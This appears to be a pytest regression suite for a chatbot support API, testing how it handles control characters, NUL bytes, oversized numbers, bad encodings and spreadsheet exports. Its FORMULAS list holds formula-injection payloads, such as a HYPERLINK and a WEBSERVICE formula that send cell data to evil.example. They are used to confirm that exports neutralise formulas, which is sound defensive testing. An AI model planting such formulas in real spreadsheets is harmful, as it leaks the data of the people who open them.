"""Input that once broke the server or its state, on the real app (issue 12): control
characters, NUL and zero-width text, numbers past the database's range, bodies that are not
UTF-8, a draft with a bell character, and customers' text that spreadsheets would run."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import insert

from bot.app import create_app
from bot.services import Services, build_services
from bot.settings import ConversationSettings, Settings
from knowledge.drafts import drafts as drafts_table
from knowledge.embedding import HashingEmbedder
from tests.bot.api.conftest import REFUSED, events, send, services_over, start
from tests.bot.conversation.conftest import postgres_admin, postgres_url  # noqa: F401
from tests.customer_tokens import as_customer

ESCAPE = "量子糾纏\x1b[31m 的包裹？"
WHALES = {"question": "鯨魚罐頭有賣嗎？", "answer": "沒有。"}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"點我")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    '\t=WEBSERVICE("http://evil.example")',
]


@pytest.fixture
def services(demo_data_dir: Path, tmp_path: Path) -> Iterator[Services]:
    """A copy of the demo knowledge base of its own: approving drafts changes it."""
    data = tmp_path / "data"
    shutil.copytree(demo_data_dir, data)
    yield from services_over(data, tmp_path)


def post_message(client: TestClient, conversation_id: str, text: str) -> Any:
    return client.post(f"/api/conversations/{conversation_id}/messages", json={"text": text})


def assert_error(response: Any, status: int, code: str, *, customer: bool = True) -> None:
    assert response.status_code == status, response.text
    body = response.json()
    assert body["code"] == code, body
    assert body["message"]
    if customer:
        assert set(body["messages"]) == {"zh", "en"}, body


# ---- text that enters --------------------------------------------------------------------


def test_control_characters_are_removed_from_a_message(client: TestClient) -> None:
    conversation = start(client)
    turn = send(client, conversation, ESCAPE)
    [message] = [e for e in events(client, conversation) if e["kind"] == "customer_messaged"]
    assert message["data"]["text"] == "量子糾纏[31m 的包裹？"
    assert turn["status"] in ("refused", "clarifying", "answered", "handed_off")


def test_line_breaks_and_tabs_stay(client: TestClient) -> None:
    conversation = start(client)
    send(client, conversation, "第一行\r\n第二行\t有 tab")
    [message] = [e for e in events(client, conversation) if e["kind"] == "customer_messaged"]
    assert message["data"]["text"] == "第一行\n第二行\t有 tab"


def test_a_nul_in_a_message_is_refused(client: TestClient) -> None:
    conversation = start(client)
    assert_error(post_message(client, conversation, "退貨\x00要怎麼申請？"), 400, "nul_character")
    assert [e["kind"] for e in events(client, conversation)] == ["conversation_started"]


def test_a_nul_or_control_character_in_a_customer_id_is_refused(client: TestClient) -> None:
    response = client.post("/api/conversations", json={"customer_id": "c-1\x00"})
    assert_error(response, 400, "nul_character")
    response = client.post("/api/conversations", json={"customer_id": "c-1\x1b[31m"})
    assert_error(response, 400, "control_character")
    response = client.post("/api/conversations", json={"channel": "web\x07"})
    assert_error(response, 400, "control_character")


def test_a_nul_never_reaches_postgresql(demo_data_dir: Path, postgres_url: str) -> None:  # noqa: F811
    """PostgreSQL cannot store a NUL: it used to answer 500; now the edge refuses it."""
    settings = Settings(
        data_dir=demo_data_dir, conversation=ConversationSettings(database_url=postgres_url)
    )
    built = build_services(settings, embedders=[HashingEmbedder("e5")])
    try:
        with as_customer(TestClient(create_app(built))) as client:
            conversation = start(client)
            refused = post_message(client, conversation, "退貨\x00要怎麼申請？")
            assert_error(refused, 400, "nul_character")
            assert_error(
                client.post("/api/conversations", json={"customer_id": "\x00"}),
                400,
                "nul_character",
            )
            assert_error(
                client.post("/api/auth/login", json={"username": "a\x00", "password": "x"}),
                400,
                "nul_character",
            )
            assert send(client, conversation, ESCAPE)["status"]
    finally:
        built.close()


@pytest.mark.parametrize("text", ["\u200b", "\u200b\u200c\u200d\ufeff", " \u2060 \u200e\n"])
def test_zero_width_only_is_an_empty_message(client: TestClient, text: str) -> None:
    conversation = start(client)
    assert_error(post_message(client, conversation, text), 400, "empty_message")


def test_a_lone_surrogate_is_removed(client: TestClient) -> None:
    conversation = start(client)
    body = b'{"text": "\\ud800\xe9\x80\x80\xe8\xb2\xa8"}'  # a lone surrogate, then 退貨
    response = client.post(
        f"/api/conversations/{conversation}/messages",
        content=body,
        headers={"content-type": "application/json"},
    )
    assert response.status_code == 200, response.text


def test_agent_replies_and_notes_are_normalised(client: TestClient, services: Services) -> None:
    services.accounts.add("mei", "correct horse battery", "agent", "美玲")
    conversation = start(client)
    assert client.post(f"/api/conversations/{conversation}/handoff").status_code == 200
    with as_customer(TestClient(create_app(services))) as agent:
        agent.post("/api/auth/login", json={"username": "mei", "password": "correct horse battery"})
        assert agent.post(f"/api/agent/conversations/{conversation}/claim").status_code == 200
        base = f"/api/agent/conversations/{conversation}"
        replied = agent.post(f"{base}/messages", json={"text": "好的\x07，馬上處理"})
        assert replied.status_code == 201, replied.text
        assert replied.json()["data"]["text"] == "好的，馬上處理"
        assert_error(agent.post(f"{base}/notes", json={"text": "a\x00b"}), 400, "nul_character")
        assert_error(agent.post(f"{base}/notes", json={"text": "\u200b"}), 400, "empty_message")
        draft = {"question": "鈴聲\u0007問題？", "answer": "好"}
        saved = agent.post("/api/agent/drafts", json=draft)
        assert saved.status_code == 201 and saved.json()["question"] == "鈴聲問題？"


# ---- numbers and bodies ------------------------------------------------------------------


@pytest.mark.parametrize("turn_seq", [9223372036854775809, 2**31, -1, 0])
def test_a_turn_seq_out_of_range_is_refused(client: TestClient, turn_seq: int) -> None:
    conversation = start(client)
    response = client.post(
        f"/api/conversations/{conversation}/feedback", json={"helpful": True, "turn_seq": turn_seq}
    )
    assert_error(response, 422, "invalid_request")


@pytest.mark.parametrize("after", ["9223372036854775809", "-9223372036854775809"])
def test_an_after_out_of_range_is_refused(client: TestClient, after: str) -> None:
    conversation = start(client)
    response = client.get(f"/api/conversations/{conversation}", params={"after": after})
    assert_error(response, 422, "invalid_request")


def test_a_body_that_is_not_utf8_gets_the_error_shape(client: TestClient) -> None:
    conversation = start(client)
    response = client.post(
        f"/api/conversations/{conversation}/messages",
        content=b'{"text": "\xff\xfe"}',
        headers={"content-type": "application/json"},
    )
    assert_error(response, 400, "invalid_json")


def test_every_framework_error_has_the_shape(client: TestClient) -> None:
    assert_error(client.get("/api/no-such-route"), 404, "not_found", customer=False)
    assert_error(client.put("/api/conversations"), 405, "method_not_allowed", customer=False)


def test_a_period_past_the_calendar_is_refused(admin: TestClient) -> None:
    for path in ("/api/metrics", "/api/admin/metrics.xlsx", "/api/admin/metrics.csv"):
        response = admin.get(path, params={"to": "9999-12-31"})
        assert_error(response, 400, "bad_request", customer=False)


# ---- drafts ------------------------------------------------------------------------------


def approve(admin: TestClient, draft_id: str) -> Any:
    return admin.post(f"/api/admin/drafts/{draft_id}/approve")


def answer(client: TestClient, question: str) -> dict[str, Any]:
    return send(client, start(client), question)


def test_a_poisoned_draft_never_blocks_approvals(admin: TestClient, services: Services) -> None:
    """A draft saved with a bell character before inputs were normalised (written straight
    into the table) is approved and served without it, and so is a clean one after it."""
    from bot.conversation.events import now

    at = now()
    with services.drafts._engine.begin() as conn:
        conn.execute(
            insert(drafts_table).values(
                id="poisoned",
                question="鈴聲\u0007問題？",
                answer="請到設定\x1b[0m關閉鈴聲。",
                status="pending",
                created_by="mei",
                created_at=at,
                updated_at=at,
            )
        )
    first = approve(admin, "poisoned")
    assert first.status_code == 200, first.text
    assert first.json()["draft"]["status"] == "approved"
    assert first.json()["job"]["state"] == "done"
    assert answer(admin, "鈴聲問題？")["status"] == "answered"

    clean = admin.post("/api/admin/drafts", json=WHALES)
    second = approve(admin, clean.json()["id"])
    assert second.status_code == 200, second.text
    assert second.json()["draft"]["status"] == "approved"
    assert answer(admin, "鯨魚罐頭有賣嗎？")["status"] == "answered"


def test_a_formula_draft_is_served_as_text(admin: TestClient) -> None:
    draft = admin.post("/api/admin/drafts", json={"question": "=1+1 是什麼？", "answer": "=2"})
    approved = approve(admin, draft.json()["id"])
    assert approved.status_code == 200, approved.text
    turn = answer(admin, "=1+1 是什麼？")
    assert turn["status"] == "answered" and "=2" in turn["reply"]


def test_a_draft_that_is_not_served_stays_pending_with_the_reason(
    admin: TestClient, services: Services
) -> None:
    """An answer that is only invisible characters makes no FAQ row: the draft is not
    approved, says why, and the next draft is approved as usual."""
    from bot.conversation.events import now

    at = now()
    with services.drafts._engine.begin() as conn:
        conn.execute(
            insert(drafts_table).values(
                id="invisible",
                question="\u200b\u0007",
                answer="\u200b",
                status="pending",
                created_by="mei",
                created_at=at,
                updated_at=at,
            )
        )
    refused = approve(admin, "invisible")
    assert_error(refused, 400, "empty_draft", customer=False)
    [draft] = [d for d in admin.get("/api/admin/drafts").json()["drafts"] if d["id"] == "invisible"]
    assert draft["status"] == "pending"

    clean = admin.post("/api/admin/drafts", json=WHALES)
    assert approve(admin, clean.json()["id"]).json()["draft"]["status"] == "approved"


# ---- exports -----------------------------------------------------------------------------


def test_exports_carry_no_formulas_nor_illegal_characters(admin: TestClient) -> None:
    for text in [ESCAPE, *FORMULAS]:
        for _ in range(2):
            answer(admin, text + " 量子糾纏")
    answer(admin, REFUSED)

    for path in ("/api/admin/metrics.xlsx", "/api/admin/gaps.xlsx"):
        response = admin.get(path)
        assert response.status_code == 200, (path, response.text)
        book = load_workbook(io.BytesIO(response.content))
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
        assert cells
        assert not [c.coordinate for c in cells if c.data_type == "f"], path
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")], path
    gaps = load_workbook(io.BytesIO(admin.get("/api/admin/gaps.xlsx").content))
    questions = [row[1] for row in gaps["questions"].iter_rows(min_row=2, values_only=True)]
    assert "'" + FORMULAS[0] + " 量子糾纏" in questions
    assert "量子糾纏[31m 的包裹？ 量子糾纏" in questions

    response = admin.get("/api/admin/metrics.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row if not is_number(cell)]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
